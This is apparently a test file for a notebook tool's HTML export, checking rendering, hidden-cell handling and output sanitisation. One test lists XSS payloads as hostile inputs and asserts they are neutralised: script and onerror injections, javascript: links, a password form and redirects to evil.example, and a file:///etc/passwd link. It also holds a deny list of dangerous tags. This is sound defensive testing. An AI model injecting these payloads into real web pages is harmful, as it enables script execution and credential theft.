import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { type TestContext, test } from "node:test";
import { kernels } from "../../helpers/notebook.js";
import { poolbook } from "../../helpers/poolbook.js";
import { temporaryFolder } from "../../helpers/temporary-folder.js";

const pixel =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

function code(source: string, outputs: unknown[] = [], metadata: object = {}): object {
  return { cell_type: "code", id: "c", source, outputs, metadata, execution_count: 7 };
}

function text(source: string, more: object = {}): object {
  return { cell_type: "markdown", id: "m", source, metadata: {}, ...more };
}

function shown(data: Record<string, unknown>): object {
  return { output_type: "display_data", data, metadata: {} };
}

async function page(t: TestContext, cells: object[], ...options: string[]): Promise<string> {
  const folder = temporaryFolder(t);
  const place = path.join(folder, "report.ipynb");
  const metadata = { kernelspec: kernels.python3, language_info: { name: "python" } };
  const ids = cells.map((cell, index) => ({ ...cell, id: `cell-${index}` }));
  writeFileSync(place, JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata, cells: ids }));
  writeFileSync(path.join(folder, "near.png"), Buffer.from(pixel, "base64"));
  const out = path.join(folder, "page.html");
  const { code, stderr } = await poolbook(["export", place, "--to", "html", "-o", out, ...options]);
  assert.equal(code, 0, stderr);
  return readFileSync(out, "utf8");
}

test("export --to html shows texts, code with colours, and every kind of output, and loads nothing", async (t) => {
  const traceback = ["\u001b[0;31mZeroDivisionError\u001b[0m", "by <zero>"];
  const html = await page(t, [
    text(
      "# A title\n\nSee [below](#Some-heading) and $a_1 * b_1$; ![near](near.png) ![far](https://far.example/x.png)",
    ),
    text("## Some heading\n\n| a |\n|---|\n| 1 |\n\n<b>raw</b> ![in it](attachment:p.png)", {
      attachments: { "p.png": { "image/png": pixel } },
    }),
    code("def f():\n    return 'text'", [
      { output_type: "stream", name: "stdout", text: ["50%\r100%\n"] },
      { output_type: "stream", name: "stderr", text: "a warning\n" },
      { output_type: "error", ename: "ZeroDivisionError", evalue: "by zero", traceback },
      shown({ "text/html": "<table><tr><td>in a table</td></tr></table>", "text/plain": "plain table" }),
      shown({ "image/png": `${pixel}\n`, "text/plain": "<Figure>" }),
      shown({ "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'/>", "text/plain": "drawn" }),
      shown({ "text/markdown": "*stressed*" }),
      shown({ "application/json": { deep: [1] } }),
      shown({ "text/html": "<div id='p'></div><script>draw()</script>", "text/plain": "Interactive plot" }),
      shown({ "application/vnd.other+json": {} }),
    ]),
  ]);
  for (const expected of [
    "<title>A title</title>",
    '<h2 id="Some-heading">Some heading</h2>',
    '<code class="formula">$a_1 * b_1$</code>',
    `<img src="data:image/png;base64,${pixel}" alt="near">`,
    '<a href="https://far.example/x.png">far</a>',
    `<img src="data:image/png;base64,${pixel}" alt="in it">`,
    "<b>raw</b>",
    '<span class="tok-keyword">def</span>',
    '<span class="prompt">[7]</span>',
    '<pre class="output stream">100%\n</pre>',
    '<pre class="output stderr">a warning\n</pre>',
    '<span class="fg-red">ZeroDivisionError</span>\nby &lt;zero&gt;',
    "<td>in a table</td>",
    `<img src="data:image/png;base64,${pixel}" alt="&lt;Figure&gt;">`,
    'src="data:image/svg+xml;base64,',
    "<em>stressed</em>",
    "&quot;deep&quot;: [",
    '<pre class="output result">Interactive plot</pre>',
    "Not shown, since it needs scripts: application/vnd.other+json",
  ]) {
    assert.ok(html.includes(expected), `${expected} is not in\n${html}`);
  }
  assert.doesNotMatch(html, /plain table|<script|<link|src="(?!data:)/);
});

const hostile = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script><foreignObject><iframe src=x></iframe></foreignObject></svg>",
  "<svg><animate attributeName=href values=javascript:alert(1) /><a xlink:href='javascript:alert(1)'>x</a></svg>",
  "<a href=' java\nscript:alert(1)'>x</a><a href='&#1;javascript:alert(1)'>x</a><a href='data:text/html,x'>x</a>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
  "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example><link rel=stylesheet href=x>",
  "</main></body><plaintext><textarea><title></textarea><script>alert(1)</script>",
  "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></table></mtext></math>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><script>alert(1)</script></template></template><script>alert(1)</script>",
  "<style></style><script>alert(1)</script><style>@import 'https://evil.example/x.css'</style>",
  "<p title='\"><script>alert(1)</script>'>x</p><p \"onclick=alert(1) x=>y</p>",
  "[x](javascript:alert(1)) ![x](javascript:alert(1)) ![x](../../secret.png) ![x](file:///etc/passwd)",
];

test("export --to html lets nothing of a notebook run, load or send", async (t) => {
  const html = await page(
    t,
    hostile.flatMap((each) => [
      text(each),
      code(each, [
        shown({ "text/html": `visible ${each}` }),
        shown({ "image/svg+xml": each, "text/plain": each }),
        shown({ '"><script>alert(1)</script>': "x" }),
        { output_type: "stream", name: "stdout", text: each },
        { output_type: "error", ename: each, evalue: each, traceback: [] },
      ]),
    ]),
  );
  const tags = html.slice(html.indexOf("<main>")).match(/<[a-z!/?][^>]*>/gi) ?? [];
  const names = [...new Set(tags.map((tag) => /^<\/?([a-z][\w-]*)/i.exec(tag)?.[1]?.toLowerCase()))];
  const dangerous =
    /^(script|iframe|object|embed|form|input|button|meta|base|link|foreignobject|animate|textarea|title|plaintext|math|noscript)$/;
  assert.deepEqual(
    names.filter((name) => name === undefined || dangerous.test(name)),
    [],
  );
  assert.deepEqual(
    tags.filter((tag) =>
      /\son\w+\s*=|=\s*"\s*(javascript|data:text|file):/i.test(tag.replace(/(title|alt)="[^"]*"/g, "")),
    ),
    [],
  );
  assert.equal(html.match(/<\/main>/g)?.length, 1);
  assert.match(html, /default-src 'none'/);
  assert.doesNotMatch(html, /<style>[^<]*evil/);
});

test("export --to html heeds what is marked as hidden or removed", async (t) => {
  const out = [{ output_type: "stream", name: "stdout", text: "printed" }];
  const tagged = (...tags: string[]) => ({ tags });
  const html = await page(t, [
    code("no_cell = 1", out, tagged("remove-cell")),
    code("no_input = 1", out, tagged("remove-input")),
    code("no_output = 1", out, tagged("remove-output")),
    code("no_source = 1", out, { jupyter: { source_hidden: true } }),
    code("folded = 1", out, tagged("hide-input", "hide-output")),
    code("", []),
  ]);
  assert.doesNotMatch(html, /no_(cell|input|source)/);
  assert.equal(html.match(/printed/g)?.length, 3);
  assert.deepEqual(html.match(/<summary>\w+/g), ["<summary>Code", "<summary>Output"]);
});

test("export --to html --no-input leaves the code out, and other formats refuse it", async (t) => {
  const html = await page(
    t,
    [code("secret = 1", [{ output_type: "stream", name: "stdout", text: "seen" }])],
    "--no-input",
  );
  assert.doesNotMatch(html, /secret/);
  assert.match(html, /seen/);
  const { code: end, stderr } = await poolbook(["export", "x.ipynb", "--to", "md", "--no-input"]);
  assert.deepEqual([end, /--no-input is for --to html/.test(stderr)], [2, true]);
});

test("export --to html shows HTML that nests too deep as it is written", async (t) => {
  const html = await page(t, [
    code("1", [shown({ "text/html": `${"<div>".repeat(30_000)}deep` })]),
    text("after"),
  ]);
  assert.match(html, /&lt;div&gt;deep<\/pre>[\s\S]*after/);
});
